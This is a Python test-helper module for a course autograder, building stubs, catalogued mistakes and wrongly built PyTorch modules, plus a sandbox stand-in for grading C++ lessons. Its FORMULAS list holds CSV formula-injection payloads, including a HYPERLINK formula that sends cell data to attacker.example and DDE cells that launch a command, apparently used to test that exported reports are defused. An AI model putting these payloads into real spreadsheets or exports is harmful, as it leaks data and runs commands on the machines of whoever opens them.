"""What more than one test file uses: the lessons' test cells as callables, the catalogued
mistakes, and each exercise written right, as a stub, with a catalogued mistake, or built wrongly
(a module whose ``__init__`` changes one thing the reference builds); lesson 12's C++ in a
stand-in for the grading kernel; the CSV cells a spreadsheet would run."""

import csv
import functools
import importlib
import os
import pkgutil
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import nbformat
import torch
from torch import nn

import autograder.checks
import solutions
from autograder import grading
from autograder.checks import Mistake
from autograder.engine import cpp_cache, csv_files
from autograder.engine.kernels import sandbox
from autograder.engine.kernels.environment import kernel_environment
from autograder.engine.kernels.sandbox import Limits, SandboxSpec
from autograder.lessons import EXERCISES, written_lessons
from autograder.libtorch import CppSource
from solutions import libtorch as cpp_reference

# Lesson 12's exercises are C++: their reference is compiled here, and their catalogued mistakes are
# proven by compiling each as C++ (tests/test_libtorch_mutations.py), not by a Python forward.
CPP_EXERCISES = set(EXERCISES["12_libtorch"])


def _collect(package, name: str) -> dict:
    merged = {}
    for info in pkgutil.iter_modules(package.__path__):
        module = importlib.import_module(f"{package.__name__}.{info.name}")
        merged.update(getattr(module, name, {}))
    return merged


def _parts(part: str) -> dict[str, list]:
    """exercise -> one callable per test cell that has this part ("visible" or "hidden"), in
    notebook order: the lessons' own test cells (autograder/grading.py), as nbgrader runs them."""
    parts: dict[str, list] = {}
    for lesson in written_lessons():
        for test in grading.table(lesson):
            code = getattr(test, part)
            if code:
                parts.setdefault(test.exercise, []).append(functools.partial(grading.run, test, code))
    return parts


CHECKS = _parts("visible")
HIDDEN = _parts("hidden")
CATALOGUE = _collect(autograder.checks, "CATALOGUE")


def reference_of(exercise: str) -> Callable:
    """The reference's definition of ``exercise``; for a C++ exercise, its compiled class."""
    if exercise in CPP_EXERCISES:
        source = getattr(cpp_reference, exercise)
        assert isinstance(source, CppSource)
        return source.compile()
    return getattr(solutions, exercise)


def buggy(exercise: str, mistake: Mistake) -> Callable:
    """The exercise written with the mistake: the function itself, or the reference class
    whose forward computes the mistake with the module's own parameters; for a C++ exercise,
    the mistake compiled from C++ (the checks refuse a Python class there)."""
    if exercise in CPP_EXERCISES:
        from tests.alternatives import libtorch as cpp_variants

        return cpp_variants.compiled()[exercise, mistake.name]
    reference = reference_of(exercise)
    if not isinstance(reference, type):
        return mistake.compute
    return type(
        f"Buggy{exercise}", (reference,), {"forward": lambda self, *a, **kw: mistake.compute(self, *a, **kw)}
    )


def stub(exercise: str) -> Callable:
    """The exercise as released: it raises NotImplementedError when called (or built)."""
    if exercise in CPP_EXERCISES:  # nbgrader's stub, compiled from C++
        from tests.alternatives import libtorch as cpp_variants

        return cpp_variants.compiled()[exercise, "stub"]
    reference = reference_of(exercise)

    def not_implemented(*args, **kwargs):
        raise NotImplementedError()

    if not isinstance(reference, type):
        return not_implemented
    return type(f"Stub{exercise}", (torch.nn.Module,), {"__init__": not_implemented})


def resolved_alternative(exercise: str, alternative: Callable) -> Callable:
    """The alternative itself; for a C++ exercise, the class its factory builds (compiled on first
    use, never at collection), since lesson 12's checks take only a class compile_module made."""
    if exercise in CPP_EXERCISES:
        from tests.alternatives import libtorch as cpp_variants

        return cpp_variants.compiled()[exercise, alternative.__name__]
    return alternative


def _rename(old: str, new: str):
    def change(module: nn.Module) -> None:
        setattr(module, new, getattr(module, old))
        delattr(module, old)

    return change


def _replace(name: str, make):
    def change(module: nn.Module) -> None:
        value = make(module, getattr(module, name))
        delattr(module, name)
        setattr(module, name, value)

    return change


def _pe_as_parameter(module: nn.Module) -> None:
    table = module.pe
    del module.pe
    module.pe = nn.Parameter(table)


def _pe_not_persistent(module: nn.Module) -> None:
    table = module.pe
    del module.pe
    module.register_buffer("pe", table, persistent=False)


def _zero_gamma(module: nn.Module) -> None:
    with torch.no_grad():
        module.gamma.zero_()


STRUCTURAL_MISTAKES = [
    (
        "Embedding",
        "lut renamed",
        _rename("lut", "table"),
        "expected an attribute `lut` that is an nn.Embedding",
    ),
    (
        "Embedding",
        "lut of the wrong size",
        _replace("lut", lambda m, lut: nn.Embedding(lut.num_embeddings + 1, lut.embedding_dim)),
        "expected lut = nn.Embedding(vocab_size, d_model)",
    ),
    ("LayerNorm", "gamma renamed", _rename("gamma", "weight"), "no parameter named `gamma`"),
    ("LayerNorm", "gamma starts at zeros", _zero_gamma, "`gamma` must start as all ones"),
    ("PositionwiseFeedForward", "linear1 renamed", _rename("linear1", "fc1"), "got no attribute linear1"),
    (
        "PositionwiseFeedForward",
        "linear1 not an nn.Linear",
        _replace("linear1", lambda m, linear: nn.Sequential(linear)),
        "expected an attribute `linear1` that is an nn.Linear, got Sequential",
    ),
    (
        "MultiHeadAttention",
        "w_q without a bias",
        _replace("w_q", lambda m, linear: nn.Linear(linear.in_features, linear.out_features, bias=False)),
        "the projections have no bias (missing ['w_q.bias'])",
    ),
    ("PositionalEncoding", "pe a parameter", _pe_as_parameter, "Register it as a buffer"),
    ("PositionalEncoding", "pe not persistent", _pe_not_persistent, "the buffer pe is not in the state_dict"),
    (
        "Encoder",
        "one layer repeated",
        _replace("layers", lambda m, layers: nn.ModuleList([layers[0]] * len(layers))),
        "the layers share their parameters",
    ),
    (
        "Decoder",
        "layers in a plain list",
        _replace("layers", lambda m, layers: list(layers)),
        "a plain list hides",
    ),
    (
        "Encoder",
        "no final norm",
        _rename("norm", "final"),
        "a final LayerNorm in an attribute `norm`",
    ),
    (
        "Generator",
        "proj renamed",
        _rename("proj", "linear"),
        "an attribute `proj` that is an nn.Linear",
    ),
    ("Transformer", "generator renamed", _rename("generator", "head"), "expected an attribute `generator`"),
]


def built_wrongly(exercise: str, change: Callable[[nn.Module], None]) -> type:
    """The reference class, with ``change`` applied to every module it builds."""
    reference = getattr(solutions, exercise)

    def build(self, *args, **kwargs):
        reference.__init__(self, *args, **kwargs)
        change(self)

    return type(f"Wrong{exercise}", (reference,), {"__init__": build})


# Lesson 12's C++: a unit that does not compile, and a grading kernel stood for by a process in
# the grading kernels' sandbox (tests/test_cpp_cache.py, test_hostile_cpp.py).
CPP_LESSON, CPP_CELL_LIMIT_S = "12_libtorch", 600  # a cell's time, generous beside a loaded suite
BROKEN_CPP = """
struct EmbeddingImpl : torch::nn::Module {
  EmbeddingImpl(int64_t vocab_size, int64_t d_model) {
    lut = register_module("lut", torch::nn::Embedding(vocab_size, d_model));
  }
  torch::Tensor forward(torch::Tensor tokens) {
    return lut(tokens) * undeclared_scale;
  }
  torch::nn::Embedding lut{nullptr};
};
"""


def cpp_submission(folder: Path, *cells: str) -> Path:
    """A submission folder holding one notebook with ``cells`` as code cells."""
    folder.mkdir(parents=True)
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells])
    nbformat.write(nb, folder / "libtorch.ipynb")
    return folder


def fake_trusted_builds(monkeypatch, gch: bytes = b"made") -> list[Path]:
    """``cpp_pch.build`` and ``cpp_binding.build`` replaced by writers of a finished folder (the
    header's ``.gch`` holds ``gch``), so that no compiler runs; the folders they made, in order."""
    from autograder import cpp_binding, cpp_pch, libtorch

    made: list[Path] = []

    def finish(folder: Path, files: dict[str, bytes]) -> None:
        folder.mkdir(parents=True)
        for name, content in files.items():
            (folder / name).write_bytes(content)
        cpp_pch.record(folder)
        (folder / libtorch.FINISHED).write_text("")
        made.append(folder)

    def header(folder, head, mark, limit_s):
        finish(folder, {cpp_pch.HEADER: "\n".join(head).encode() + b"\n", f"{cpp_pch.HEADER}.gch": gch})
        return folder / cpp_pch.HEADER

    def binding(folder, mark, limit_s):
        finish(folder, {cpp_binding.OBJECT: b"object"})
        return folder / cpp_binding.OBJECT

    monkeypatch.setattr(cpp_pch, "build", header)
    monkeypatch.setattr(cpp_binding, "build", binding)
    return made


def in_kernel_sandbox(workspace: Path, code: str, defended: bool = True) -> subprocess.CompletedProcess:
    """Run Python ``code`` as a grading kernel runs: the workspace hidden, its shared cache bound
    back read-only (``defended``) or writable (as it would be without the defence)."""
    cache = cpp_cache.shared_cache(workspace)
    folders = sandbox.shared_folders(str(cache))
    spec = SandboxSpec(
        Limits(),
        hidden=(workspace.resolve(),),
        readable=tuple(sandbox.needed()),
        private=tuple(sandbox.private_roots()),
        shared=folders if defended else (),
        writable=() if defended else folders,
    )
    if not defended:
        sandbox.give_to_sandbox(cache)  # as a kernel's own folder is
    environment = kernel_environment(os.environ, str(cache))
    return subprocess.run(
        spec.command([sys.executable, "-c", code]), env=environment, capture_output=True, text=True, cwd="/"
    )


# CSV cells a spreadsheet would run (tests/test_hostile_reports.py, test_hostile_insights.py).
FORMULAS = [
    '=HYPERLINK("https://attacker.example/?"&A3,"Ada")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e[-+][0-9]+)?")


def formulas(path: Path) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run: they start as a formula and are not
    a number."""
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    return [
        cell for cell in cells if cell.startswith(csv_files.FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]
